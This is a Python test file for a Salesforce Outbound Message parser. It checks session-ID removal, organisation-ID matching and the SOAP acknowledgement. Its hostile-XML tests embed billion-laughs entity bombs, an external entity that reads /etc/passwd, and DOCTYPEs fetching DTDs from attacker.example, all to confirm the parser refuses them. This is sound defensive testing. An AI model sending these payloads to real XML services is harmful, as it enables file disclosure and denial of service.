"""app/intake/salesforce.py: safe Outbound Message parsing, SessionId removal, org check, ACK."""

from __future__ import annotations

import pytest
from defusedxml import ElementTree as SafeET

from app.errors import InputError, MalformedBody
from app.intake import salesforce
from tests.support.deliveries import (
    ORG_15,
    ORG_18,
    OUTBOUND,
    SOAP_ENV,
    XSI,
    Note,
    billion_laughs,
    invoice_notes,
    outbound_message,
    sf_id18,
)

# --- parse: the documented shape ----------------------------------------------------------


def test_one_notification_parses() -> None:
    note = Note("04l5g00000A1b2cAAB", "a015g00000XyZ12AAC", fields={"Name": "INV-1"})

    message = salesforce.parse(outbound_message([note]))

    assert message.organization_id == ORG_18
    assert message.action_id == "04k5g000000CaJWAA0"
    assert message.enterprise_url.startswith("https://acme.my.salesforce.com/")
    [parsed] = message.notifications
    assert parsed.id == "04l5g00000A1b2cAAB"
    assert parsed.sobject_type == "Invoice__c"
    assert parsed.record_id == "a015g00000XyZ12AAC"
    assert parsed.fields == {"Id": "a015g00000XyZ12AAC", "Name": "INV-1"}


def test_parsed_message_does_not_keep_the_session_id() -> None:
    message = salesforce.parse(outbound_message(invoice_notes(1), session_id="SECRET-SESSION"))
    assert "SECRET-SESSION" not in repr(message)


def test_nil_session_id_parses() -> None:
    message = salesforce.parse(outbound_message(invoice_notes(1), session_id=None))
    assert len(message.notifications) == 1


def test_hundred_notifications_parse_in_order() -> None:
    notes = invoice_notes(100)

    message = salesforce.parse(outbound_message(notes))

    assert [n.id for n in message.notifications] == [n.id for n in notes]
    assert [n.record_id for n in message.notifications] == [n.record_id for n in notes]
    assert {n.sobject_type for n in message.notifications} == {"Invoice__c"}
    assert message.notifications[42].fields == {
        "Id": notes[42].record_id,
        "Name": "INV-42",
        "Status__c": "Exception",
    }


def test_hundred_and_one_notifications_are_an_input_error() -> None:
    with pytest.raises(InputError, match="101"):
        salesforce.parse(outbound_message(invoice_notes(101)))


def test_another_sobject_type_is_reported_as_is() -> None:
    note = Note("04l5g00000A1b2cAAB", "0015g00000AbCdEAAZ", sobject_type="Account")
    [parsed] = salesforce.parse(outbound_message([note])).notifications
    assert parsed.sobject_type == "Account"


def test_other_namespace_prefixes_parse_the_same() -> None:
    body = (
        f'<env:Envelope xmlns:env="{SOAP_ENV}" xmlns:i="{XSI}"><env:Body>'
        f'<o:notifications xmlns:o="{OUTBOUND}"><o:OrganizationId>{ORG_15}</o:OrganizationId>'
        "<o:ActionId>04k5g000000CaJW</o:ActionId>"
        "<o:Notification><o:Id>04l5g00000A1b2c</o:Id>"
        '<o:sObject i:type="x:Invoice__c" xmlns:x="urn:sobject.enterprise.soap.sforce.com">'
        "<x:Id>a015g00000XyZ12</x:Id></o:sObject></o:Notification>"
        "</o:notifications></env:Body></env:Envelope>"
    ).encode()

    message = salesforce.parse(body)

    assert message.organization_id == ORG_15
    assert [(n.sobject_type, n.record_id) for n in message.notifications] == [
        ("Invoice__c", "a015g00000XyZ12")
    ]


# --- parse: hostile XML -------------------------------------------------------------------


@pytest.mark.timeout(60)
@pytest.mark.parametrize("levels", [9, 100])
def test_billion_laughs_is_refused_without_expanding(levels: int) -> None:
    # Expanded, 100 levels would be 10**100 "lol"s: the test only finishes if parse refuses.
    with pytest.raises(MalformedBody, match="DTD"):
        salesforce.parse(billion_laughs(levels))


@pytest.mark.timeout(60)
def test_billion_laughs_inside_a_real_envelope_is_refused() -> None:
    envelope = outbound_message(invoice_notes(1), prolog=False).decode()
    bomb = billion_laughs(100).decode()
    doctype = bomb[bomb.index("<!DOCTYPE") : bomb.index("]>") + 2].replace(
        "lolz", "soapenv:Envelope", 1
    )
    body = envelope.replace("<sf:Name>INV-0</sf:Name>", "<sf:Name>&lol100;</sf:Name>")
    with pytest.raises(MalformedBody):
        salesforce.parse((doctype + body).encode())


def test_external_entity_is_refused() -> None:
    envelope = outbound_message(invoice_notes(1), prolog=False).decode()
    body = (
        '<?xml version="1.0"?><!DOCTYPE soapenv:Envelope ['
        '<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        + envelope.replace("<sf:Name>INV-0</sf:Name>", "<sf:Name>&x;</sf:Name>")
    ).encode()
    with pytest.raises(MalformedBody) as caught:
        salesforce.parse(body)
    assert "root:" not in str(caught.value)


@pytest.mark.parametrize(
    "doctype",
    [
        "<!DOCTYPE soapenv:Envelope>",
        '<!DOCTYPE soapenv:Envelope SYSTEM "http://attacker.example/x.dtd">',
        "<!DOCTYPE soapenv:Envelope [<!ELEMENT soapenv:Envelope ANY>]>",
        '<!DOCTYPE soapenv:Envelope [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>',
    ],
)
def test_any_doctype_is_refused(doctype: str) -> None:
    envelope = outbound_message(invoice_notes(1), prolog=False).decode()
    with pytest.raises(MalformedBody, match="DTD"):
        salesforce.parse((doctype + envelope).encode())


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"not xml at all",
        b"<soapenv:Envelope>",
        b'{"json": true}',
        b"<a><b></a></b>",
        b"<a>&undefined;</a>",
        b"\xff\xfe\x00garbage",
    ],
)
def test_malformed_xml_is_malformed_body(body: bytes) -> None:
    with pytest.raises(MalformedBody):
        salesforce.parse(body)


def test_truncated_envelope_is_malformed_body() -> None:
    body = outbound_message(invoice_notes(3))
    with pytest.raises(MalformedBody):
        salesforce.parse(body[: len(body) // 2])


@pytest.mark.parametrize("encoding", ["no-such-codec", "utf-7", "cp932"])
def test_xml_declaring_an_unusable_encoding_is_malformed_body(encoding: str) -> None:
    body = outbound_message(invoice_notes(1), prolog=False)
    with pytest.raises(MalformedBody):
        salesforce.parse(f'<?xml version="1.0" encoding="{encoding}"?>'.encode() + body)


# --- parse: well-formed but not an Outbound Message ---------------------------------------


def _envelope_without(fragment: str, replacement: str = "") -> bytes:
    body = outbound_message(invoice_notes(1)).decode()
    assert fragment in body
    return body.replace(fragment, replacement, 1).encode()


@pytest.mark.parametrize(
    ("body", "named"),
    [
        (b"<Envelope><Body/></Envelope>", "SOAP envelope"),
        (b'<x:Envelope xmlns:x="urn:other"/>', "SOAP envelope"),
        (f'<s:Envelope xmlns:s="{SOAP_ENV}"><s:Body/></s:Envelope>'.encode(), "notifications"),
        (
            f'<s:Envelope xmlns:s="{SOAP_ENV}"><s:Body><notifications xmlns="urn:not-sforce">'
            "</notifications></s:Body></s:Envelope>".encode(),
            "notifications",
        ),
        (
            f'<s:Envelope xmlns:s="{SOAP_ENV}"><s:Body><notifications xmlns="{OUTBOUND}">'
            f"<OrganizationId>{ORG_15}</OrganizationId><ActionId>04k</ActionId>"
            "</notifications></s:Body></s:Envelope>".encode(),
            "Notification",
        ),
    ],
)
def test_wrong_root_or_missing_notifications_is_an_input_error(body: bytes, named: str) -> None:
    with pytest.raises(InputError, match=named) as caught:
        salesforce.parse(body)
    assert not isinstance(caught.value, MalformedBody)


@pytest.mark.parametrize(
    ("fragment", "replacement", "named"),
    [
        (f"<OrganizationId>{ORG_18}</OrganizationId>", "", "OrganizationId"),
        (
            f"<OrganizationId>{ORG_18}</OrganizationId>",
            "<OrganizationId> </OrganizationId>",
            "OrganizationId",
        ),
        ("<ActionId>04k5g000000CaJWAA0</ActionId>", "", "ActionId"),
        ("<Id>04l5g0000000000000</Id>", "", "Id"),
        (' xsi:type="sf:Invoice__c"', "", "type"),
        (' xsi:type="sf:Invoice__c"', ' xsi:type="sf:"', "type"),
        ("<sf:Id>a015g0000000000AAA</sf:Id>", "", "Id"),
    ],
)
def test_incomplete_message_is_an_input_error(fragment: str, replacement: str, named: str) -> None:
    with pytest.raises(InputError, match=named) as caught:
        salesforce.parse(_envelope_without(fragment, replacement))
    assert not isinstance(caught.value, MalformedBody)


def test_notification_without_sobject_is_an_input_error() -> None:
    body = outbound_message(invoice_notes(1)).decode()
    start, end = body.index("<sObject"), body.index("</sObject>") + len("</sObject>")
    with pytest.raises(InputError, match="sObject"):
        salesforce.parse((body[:start] + body[end:]).encode())


# --- without_session ----------------------------------------------------------------------


def test_without_session_removes_the_session_value_and_keeps_the_rest() -> None:
    token = "00D5g000004XyZa!AQ4AQLive.Session_Token"
    body = outbound_message(invoice_notes(2), session_id=token)

    kept = salesforce.without_session(body)

    assert token not in kept
    assert "<SessionId>" in kept and "</SessionId>" in kept
    assert kept.replace("[removed]", token) == body.decode()
    # What is left still parses to the same message.
    assert salesforce.parse(kept.encode()) == salesforce.parse(body)


def test_without_session_handles_a_prefixed_session_element() -> None:
    token = "SESSION-abc.123!xyz"
    body = outbound_message(invoice_notes(1), session_id=token).decode()
    body = body.replace(
        f"<SessionId>{token}</SessionId>",
        f'<ns:SessionId xmlns:ns="{OUTBOUND}">{token}</ns:SessionId>',
    )

    kept = salesforce.without_session(body.encode())

    assert token not in kept
    assert f'<ns:SessionId xmlns:ns="{OUTBOUND}">' in kept and "</ns:SessionId>" in kept
    assert "INV-0" in kept and ORG_18 in kept


def test_without_session_handles_a_multiline_value() -> None:
    body = outbound_message(invoice_notes(1), session_id="line-one\nline-two")
    kept = salesforce.without_session(body)
    assert "line-one" not in kept and "line-two" not in kept


def test_nil_session_id_is_left_as_is() -> None:
    body = outbound_message(invoice_notes(2), session_id=None)
    assert salesforce.without_session(body) == body.decode()


def test_similar_element_names_are_not_touched() -> None:
    body = outbound_message(invoice_notes(1), session_id="S1").decode()
    body = body.replace(
        "<sf:Name>INV-0</sf:Name>", "<sf:SessionIdNote__c>keep me</sf:SessionIdNote__c>"
    )
    kept = salesforce.without_session(body.encode())
    assert "keep me" in kept and "S1" not in kept


# --- same_org -----------------------------------------------------------------------------


def test_the_checksum_helper_matches_a_known_id() -> None:
    # Salesforce's documented example: 001A0000006Vm9r -> 001A0000006Vm9rIAC.
    assert sf_id18("001A0000006Vm9r") == "001A0000006Vm9rIAC"


@pytest.mark.parametrize(
    ("configured", "given"),
    [(ORG_15, ORG_15), (ORG_18, ORG_18), (ORG_15, ORG_18), (ORG_18, ORG_15)],
)
def test_same_org_matches_the_15_and_18_character_forms(configured: str, given: str) -> None:
    assert salesforce.same_org(configured, given)


@pytest.mark.parametrize(
    "given",
    [
        "00D5g000004XyZb",  # another org
        sf_id18("00D5g000004XyZb"),
        ORG_15.lower(),  # ids are case-sensitive
        ORG_15.upper(),
        ORG_15[:14],
        "",
    ],
)
def test_same_org_refuses_other_orgs(given: str) -> None:
    assert not salesforce.same_org(ORG_18, given)
    assert not salesforce.same_org(ORG_15, given)


@pytest.mark.parametrize("given", [ORG_15, ORG_18, ""])
def test_same_org_refuses_everything_without_a_configuration(given: str) -> None:
    assert not salesforce.same_org("", given)


@pytest.mark.parametrize(
    "given",
    [ORG_15 + "ZZZ", ORG_15 + "A", ORG_18 + "-trailing-junk"],
    ids=["bad-checksum", "16", "30"],
)
def test_same_org_refuses_ids_that_only_start_with_the_org_id(given: str) -> None:
    assert not salesforce.same_org(ORG_18, given)


# --- ACK ----------------------------------------------------------------------------------


def test_ack_is_the_documented_notifications_response() -> None:
    root = SafeET.fromstring(salesforce.ACK.encode("utf-8"), forbid_dtd=True)

    assert root.tag == f"{{{SOAP_ENV}}}Envelope"
    body = root.find(f"{{{SOAP_ENV}}}Body")
    assert body is not None and len(body) == 1
    response = body[0]
    assert response.tag == "{http://soap.sforce.com/2005/09/outbound}notificationsResponse"
    acks = response.findall("{http://soap.sforce.com/2005/09/outbound}Ack")
    assert [a.text for a in acks] == ["true"]
    assert salesforce.ACK.startswith('<?xml version="1.0" encoding="UTF-8"?>')
